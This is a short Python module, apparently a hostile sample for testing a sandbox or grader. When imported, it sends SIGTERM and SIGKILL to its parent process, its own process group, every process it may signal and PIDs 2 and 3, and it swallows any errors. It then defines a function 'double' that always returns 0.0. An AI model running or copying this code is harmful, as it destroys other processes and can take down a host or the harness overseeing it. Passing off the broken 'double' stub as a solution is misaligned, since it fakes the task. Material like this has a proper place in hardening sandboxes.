"""Sends SIGKILL and SIGTERM to its parent, its group and every process that it may."""
import os
import signal

for target in (os.getppid(), -1, 0, 2, 3):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass


def double(x):
    return 0.0
